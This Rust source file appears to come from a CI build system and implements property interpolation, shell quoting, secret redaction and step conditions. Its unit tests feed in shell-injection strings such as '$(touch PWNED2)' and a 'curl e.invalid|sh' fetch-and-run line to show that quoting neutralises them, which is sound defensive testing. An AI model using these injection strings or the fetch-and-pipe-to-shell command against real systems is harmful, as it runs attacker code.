//! Build properties and their interpolation into step arguments.
//!
//! `%(prop:NAME)s` is replaced by the property's value; `%(prop:NAME:-DEFAULT)s` uses
//! DEFAULT when it is not set; `%%` is a literal `%`. A property that is not set and has
//! no default is an error, never an empty string.
//!
//! A value is data wherever it lands. In a command string that runs through `/bin/sh -c`
//! ([`Properties::render_shell`]) each value is shell-quoted: one word, whatever its
//! bytes (a list: one word per item). `%(raw:NAME)s` (and `%(raw:NAME:-DEFAULT)s`)
//! inserts the text unquoted, for configs that build shell syntax from properties they
//! control; it is unsafe with values from outside. Everywhere else (argv items, env
//! values, file contents, paths, conditions) values are inserted as they are, and
//! `raw:` is the same as `prop:`.
//!
//! `%(secret:NAME)s` is the master's secret NAME (see [`crate::secrets`]), quoted like
//! a property; it is never stored as a property: values set are redacted.

use crate::secrets::Secrets;
use serde_json::{Map, Value};
use std::fmt;
use std::sync::Arc;

/// A build's properties: name → value, with where each came from.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Properties {
    values: Map<String, Value>,
    sources: Map<String, Value>,
    secrets: Arc<Secrets>,
}

/// A template that cannot be rendered.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum RenderError {
    Missing(String),
    Malformed(String),
    NoSecret(String),
}

impl fmt::Display for RenderError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            RenderError::Missing(name) => write!(f, "property {name:?} is not set"),
            RenderError::Malformed(why) => write!(f, "bad interpolation: {why}"),
            RenderError::NoSecret(name) => write!(f, "secret {name:?} is not defined"),
        }
    }
}

impl Properties {
    /// The master's secrets, for `%(secret:NAME)s`; values already set are redacted.
    pub fn use_secrets(&mut self, secrets: Arc<Secrets>) {
        self.secrets = secrets;
        let values = std::mem::take(&mut self.values);
        for (name, value) in values {
            self.values.insert(name, self.secrets.redact_json(value));
        }
    }

    /// Sets a property; any secret in its value is replaced by `<secret:NAME>`.
    pub fn set(&mut self, name: &str, value: Value, source: &str) {
        let value = self.secrets.redact_json(value);
        self.values.insert(name.to_owned(), value);
        self.sources
            .insert(name.to_owned(), Value::String(source.to_owned()));
    }

    pub fn get(&self, name: &str) -> Option<&Value> {
        self.values.get(name)
    }

    /// `{name: [value, source]}`, as buildbot's API shows properties.
    pub fn to_json(&self) -> Value {
        let mut out = Map::new();
        for (k, v) in &self.values {
            let source = self.sources.get(k).cloned().unwrap_or(Value::Null);
            out.insert(k.clone(), Value::Array(vec![v.clone(), source]));
        }
        Value::Object(out)
    }

    /// Replaces every `%(prop:...)s` in `template` with the bare value, for places where
    /// a value is not shell syntax.
    pub fn render(&self, template: &str) -> Result<String, RenderError> {
        self.render_in(template, Quoting::None)
    }

    /// Replaces every `%(prop:...)s` in a shell command string with the value quoted
    /// for `/bin/sh`; `%(raw:...)s` stays unquoted.
    pub fn render_shell(&self, template: &str) -> Result<String, RenderError> {
        self.render_in(template, Quoting::Shell)
    }

    fn render_in(&self, template: &str, quoting: Quoting) -> Result<String, RenderError> {
        let mut out = String::with_capacity(template.len());
        let mut rest = template;
        while let Some(i) = rest.find('%') {
            out.push_str(&rest[..i]);
            rest = &rest[i..];
            if let Some(after) = rest.strip_prefix("%%") {
                out.push('%');
                rest = after;
                continue;
            }
            let Some(body) = rest.strip_prefix("%(") else {
                out.push('%');
                rest = &rest[1..];
                continue;
            };
            let end = body.find(")s").ok_or_else(|| {
                RenderError::Malformed(format!("unterminated {:?}", truncate(rest)))
            })?;
            out.push_str(&self.lookup(&body[..end], quoting)?);
            rest = &body[end + 2..];
        }
        out.push_str(rest);
        Ok(out)
    }

    fn lookup(&self, spec: &str, quoting: Quoting) -> Result<String, RenderError> {
        let (body, quoting) = if let Some(body) = spec.strip_prefix("prop:") {
            (body, quoting)
        } else if let Some(body) = spec.strip_prefix("raw:") {
            (body, Quoting::None)
        } else if let Some(name) = spec.strip_prefix("secret:") {
            let secret = self.secrets.get(name);
            let secret = secret.ok_or_else(|| RenderError::NoSecret(name.to_owned()))?;
            return Ok(quoting.apply(&Value::String(secret.to_owned())));
        } else {
            return Err(RenderError::Malformed(format!(
                "unknown source in %({spec})s (use prop:NAME, raw:NAME or secret:NAME)"
            )));
        };
        let (name, default) = match body.split_once(":-") {
            Some((n, d)) => (n, Some(d)),
            None => (body, None),
        };
        let value = match (self.values.get(name), default) {
            (Some(v), _) => v,
            (None, Some(d)) => return Ok(quoting.apply(&Value::String(d.to_owned()))),
            (None, None) => return Err(RenderError::Missing(name.to_owned())),
        };
        Ok(quoting.apply(value))
    }
}

/// How an interpolated value is written.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Quoting {
    /// As it is: the value is data where it lands.
    None,
    /// For `/bin/sh -c`: one quoted word per value (per item of a list).
    Shell,
}

impl Quoting {
    fn apply(self, v: &Value) -> String {
        match (self, v) {
            (Quoting::None, v) => display(v),
            (Quoting::Shell, Value::Array(items)) => items
                .iter()
                .map(|item| shell_quote(&display(item)))
                .collect::<Vec<_>>()
                .join(" "),
            (Quoting::Shell, v) => shell_quote(&display(v)),
        }
    }
}

/// `s` as one `/bin/sh` word: in single quotes, inside which nothing is special, with
/// each `'` written as `'\''` (close, an escaped quote, reopen). Empty is `''`.
pub fn shell_quote(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('\'');
    for c in s.chars() {
        if c == '\'' {
            out.push_str("'\\''");
        } else {
            out.push(c);
        }
    }
    out.push('\'');
    out
}

/// How a property reads inside a string: strings bare, lists space-separated, other
/// values as JSON.
pub fn display(v: &Value) -> String {
    match v {
        Value::String(s) => s.clone(),
        Value::Null => String::new(),
        Value::Array(items) => items.iter().map(display).collect::<Vec<_>>().join(" "),
        other => other.to_string(),
    }
}

fn truncate(s: &str) -> String {
    s.chars().take(40).collect()
}

/// Evaluates a `do_step_if` condition after interpolation: `A == B`, `A != B`, or a
/// bare value that holds unless it is empty, `0` or `false`.
pub fn condition_holds(rendered: &str) -> bool {
    if let Some((a, b)) = rendered.split_once("!=") {
        return a.trim() != b.trim();
    }
    if let Some((a, b)) = rendered.split_once("==") {
        return a.trim() == b.trim();
    }
    !matches!(rendered.trim(), "" | "0" | "false" | "False")
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn props() -> Properties {
        let mut p = Properties::default();
        p.set("branch", json!("main"), "force");
        p.set("buildnumber", json!(7), "build");
        p.set("files", json!(["a", "b"]), "step");
        p
    }

    #[test]
    fn renders_properties_and_defaults() {
        let p = props();
        assert_eq!(
            p.render("git checkout %(prop:branch)s").unwrap(),
            "git checkout main"
        );
        assert_eq!(
            p.render("#%(prop:buildnumber)s: %(prop:files)s").unwrap(),
            "#7: a b"
        );
        assert_eq!(p.render("%(prop:missing:-fallback)s").unwrap(), "fallback");
        assert_eq!(p.render("100%% and 5% ok").unwrap(), "100% and 5% ok");
    }

    #[test]
    fn a_missing_property_is_an_error_not_an_empty_string() {
        assert_eq!(
            props().render("x %(prop:revision)s"),
            Err(RenderError::Missing("revision".into()))
        );
        assert!(matches!(
            props().render("%(prop:branch"),
            Err(RenderError::Malformed(_))
        ));
        assert!(matches!(
            props().render("%(kw:x)s"),
            Err(RenderError::Malformed(_))
        ));
    }

    #[test]
    fn shell_quoting_makes_one_literal_word() {
        assert_eq!(shell_quote("main"), "'main'");
        assert_eq!(shell_quote(""), "''");
        assert_eq!(shell_quote("it's"), "'it'\\''s'");
        assert_eq!(shell_quote("$(id)"), "'$(id)'");
        assert_eq!(shell_quote("`id`"), "'`id`'");
        assert_eq!(shell_quote("a\nb"), "'a\nb'");
        assert_eq!(shell_quote("x;curl e.invalid|sh"), "'x;curl e.invalid|sh'");
    }

    /// What `/bin/sh` makes of a quoted value: its arguments, one per line.
    fn sh_words(command_tail: &str) -> Vec<String> {
        let out = std::process::Command::new("/bin/sh")
            .arg("-c")
            .arg(format!(
                "for a in {command_tail}; do printf '[%s]' \"$a\"; done"
            ))
            .output()
            .expect("sh runs");
        assert!(out.status.success(), "{out:?}");
        let text = String::from_utf8(out.stdout).expect("utf-8");
        text.strip_prefix('[')
            .and_then(|t| t.strip_suffix(']'))
            .map(|t| t.split("][").map(str::to_owned).collect())
            .unwrap_or_default()
    }

    #[test]
    fn the_shell_reads_quoted_values_back_exactly() {
        let hostile = [
            "x; touch PWNED",
            "$(touch PWNED2)",
            "`id`",
            "it's 'quoted' ''",
            "a\nb\r\tc",
            "$HOME \\ \" * ? [a] ~ # & | > <",
            "",
            "'",
            "-n",
        ];
        for value in hostile {
            let mut p = Properties::default();
            p.set("v", json!(value), "force");
            let rendered = p.render_shell("%(prop:v)s").unwrap();
            assert_eq!(sh_words(&rendered), vec![value.to_owned()], "{rendered}");
        }
    }

    #[test]
    fn shell_rendering_quotes_values_defaults_and_list_items() {
        let mut p = props();
        p.set("evil", json!("$(id)"), "force");
        p.set("empty", json!(""), "force");
        p.set("none", json!([]), "step");
        assert_eq!(
            p.render_shell("git checkout %(prop:branch)s && echo %(prop:evil)s")
                .unwrap(),
            "git checkout 'main' && echo '$(id)'"
        );
        assert_eq!(p.render_shell("ls %(prop:files)s").unwrap(), "ls 'a' 'b'");
        assert_eq!(p.render_shell("x %(prop:empty)s y").unwrap(), "x '' y");
        assert_eq!(p.render_shell("rm %(prop:none)s").unwrap(), "rm ");
        assert_eq!(
            p.render_shell("%(prop:missing:-a b)s #%(prop:buildnumber)s")
                .unwrap(),
            "'a b' #'7'"
        );
        assert_eq!(
            sh_words(&p.render_shell("%(prop:files)s %(prop:empty)s").unwrap()),
            vec!["a", "b", ""]
        );
    }

    #[test]
    fn the_raw_form_inserts_text_unquoted() {
        let mut p = props();
        p.set("flags", json!("-O2 -g"), "builder");
        assert_eq!(
            p.render_shell("cc %(raw:flags)s %(prop:flags)s").unwrap(),
            "cc -O2 -g '-O2 -g'"
        );
        assert_eq!(p.render_shell("%(raw:nope:-$X)s").unwrap(), "$X");
        assert_eq!(p.render_shell("%(raw:files)s").unwrap(), "a b");
        assert_eq!(
            p.render_shell("%(raw:nope)s"),
            Err(RenderError::Missing("nope".into()))
        );
        // Where values are data, raw and prop are the same and nothing is quoted.
        assert_eq!(
            p.render("%(raw:flags)s|%(prop:flags)s").unwrap(),
            "-O2 -g|-O2 -g"
        );
    }

    #[test]
    fn conditions() {
        assert!(condition_holds("main == main"));
        assert!(!condition_holds("dev == main"));
        assert!(condition_holds("dev != main"));
        assert!(!condition_holds("false"));
        assert!(!condition_holds(""));
        assert!(condition_holds("yes"));
    }
}
